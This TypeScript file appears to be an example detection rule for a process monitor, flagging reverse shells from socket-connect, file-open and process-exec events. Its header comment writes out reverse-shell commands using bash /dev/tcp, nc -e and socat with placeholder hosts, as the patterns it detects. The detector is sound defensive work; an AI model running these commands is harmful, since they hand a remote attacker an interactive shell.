/**
 * An example custom policy rule, written against vmsight's public API only (outside this repository,
 * import from 'vmsight' instead of the relative path).
 *
 * It flags a reverse shell three ways:
 *  1. a shell that itself opens an outbound connection (`bash -i >& /dev/tcp/HOST/PORT 0>&1`);
 *  2. a shell whose stdin, stdout or stderr is a socket (seen with `--watch files`);
 *  3. a shell started by, or exec'd in place of, a process that holds an outbound connection
 *     (`nc -e /bin/sh HOST PORT`, `socat exec:sh tcp:HOST:PORT`).
 * For 3 it remembers which pids hold connections, from socket-connect events, forgetting them on
 * socket-close and process-exit; the memory is bounded, so a flood of connections cannot grow it.
 *
 * Use it with the built-in rules:
 *   const policy = definePolicy([...loadPolicy('policy.yaml').rules, reverseShellRule()]);
 */
import { alertFor, type MonitorEvent, type Rule, type Severity } from '../../src/index.js';

export interface ReverseShellOptions {
  readonly name?: string;
  readonly severity?: Severity;
  /** Process names counted as shells. */
  readonly shells?: readonly string[];
  /** How many connection-holding pids to remember (oldest forgotten first). */
  readonly memory?: number;
}

const DEFAULT_SHELLS = ['sh', 'bash', 'dash', 'zsh', 'ash', 'ksh', 'mksh', 'fish', 'tcsh', 'csh'];

export function reverseShellRule(options: ReverseShellOptions = {}): Rule {
  const shells = new Set(options.shells ?? DEFAULT_SHELLS);
  const limit = options.memory ?? 4096;
  /** pid → "remote address:port" of an outbound connection it holds (insertion order = age). */
  const connected = new Map<number, string>();

  const isShell = (e: MonitorEvent) => e.process?.comm !== undefined && shells.has(e.process.comm);
  const remoteOf = (e: MonitorEvent) => `${String(e.data?.['remote'] ?? e.data?.['remoteAddress'] ?? '?')}:${String(e.data?.['remotePort'] ?? '?')}`;
  const remember = (pid: number, remote: string) => {
    connected.delete(pid);
    connected.set(pid, remote);
    if (connected.size > limit) connected.delete(connected.keys().next().value!);
  };

  const rule: Rule = {
    name: options.name ?? 'reverse-shell',
    severity: options.severity ?? 'critical',
    description: 'a shell wired to a network connection',
    evaluate(e) {
      const pid = e.process?.pid;
      switch (e.type) {
        case 'socket-connect':
          if (pid === undefined) return undefined;
          remember(pid, remoteOf(e));
          return isShell(e) ? alertFor(rule, e, `shell ${pid}/${e.process!.comm} connected to ${remoteOf(e)}`) : undefined;
        case 'socket-close':
          if (pid !== undefined) connected.delete(pid);
          return undefined;
        case 'process-exit':
          if (pid !== undefined) connected.delete(pid);
          return undefined;
        case 'file-open': {
          const fd = e.data?.['fd'];
          const target = String(e.data?.['path'] ?? '');
          const socket = e.data?.['kind'] === 'socket' || target.startsWith('socket:');
          if (!isShell(e) || !socket || (fd !== 0 && fd !== 1 && fd !== 2)) return undefined;
          const stream = ['stdin', 'stdout', 'stderr'][fd]!;
          return alertFor(rule, e, `the ${stream} of shell ${pid}/${e.process!.comm} is a socket (${target})`);
        }
        case 'process-start':
        case 'process-exec': {
          if (!isShell(e) || pid === undefined) return undefined;
          const ppid = e.process!.ppid;
          const own = connected.get(pid);
          const parent = ppid === undefined ? undefined : connected.get(ppid);
          if (own !== undefined) return alertFor(rule, e, `process ${pid} holding a connection to ${own} became shell ${e.process!.comm}`);
          if (parent !== undefined) return alertFor(rule, e, `shell ${pid}/${e.process!.comm} started by ${ppid}, which holds a connection to ${parent}`);
          return undefined;
        }
        default:
          return undefined;
      }
    },
  };
  return rule;
}
